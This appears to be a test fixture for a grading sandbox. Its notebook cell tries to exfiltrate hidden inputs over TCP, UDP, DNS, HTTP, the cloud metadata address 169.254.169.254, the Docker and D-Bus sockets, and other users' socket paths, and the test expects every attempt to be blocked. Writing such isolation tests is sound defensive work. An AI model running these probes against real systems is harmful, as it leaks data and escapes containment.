"""Carry hidden inputs out by TCP, UDP, DNS, unix sockets and cloud metadata."""

ENTRY, FAMILY = 39, "B"
EXPECTED = {"test_small_graph": "failed"}
TIER = "files"
UNSAFE_FOR_NBGRADER = True
CELLS = {
    "small_graph": """
import glob
import os
import socket
import urllib.request

import numpy as np


def attempt(name, action):
    try:
        action()
        print("STOLEN way out:", name)
    except OSError as error:
        print(name, type(error).__name__)


def tcp(host, port):
    socket.create_connection((host, port), timeout=0.2).close()


def udp(host, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.connect((host, port))
        sender.send(b"STOLEN inputs")


def unix(path):
    with socket.socket(socket.AF_UNIX) as sender:
        sender.connect(path)


def small_graph(x, y, z):
    return 0.0, x, y, z


PORT = LISTENING_PORT
others = [path for path in glob.glob("/var/tmp/*/k-1") if not os.environ["HOME"].startswith(os.path.dirname(path))]
attempt("tcp to the host", lambda: tcp("127.0.0.1", PORT))
for host in ("169.254.169.254", "8.8.8.8", "10.0.0.1", "192.168.0.1"):
    attempt(f"tcp to {host}", lambda host=host: tcp(host, 80))
    attempt(f"udp to {host}", lambda host=host: udp(host, 53))
attempt("dns", lambda: socket.getaddrinfo("example.org", 80))
attempt("http", lambda: urllib.request.urlopen("http://example.org", timeout=0.2))
attempt("abstract socket", lambda: unix("\\0LISTENING_NAME"))
for path in ("/var/run/docker.sock", "/run/dbus/system_bus_socket", *glob.glob("/tmp/agz*/s"), *others):
    attempt(path, lambda path=path: unix(path))
""",
}
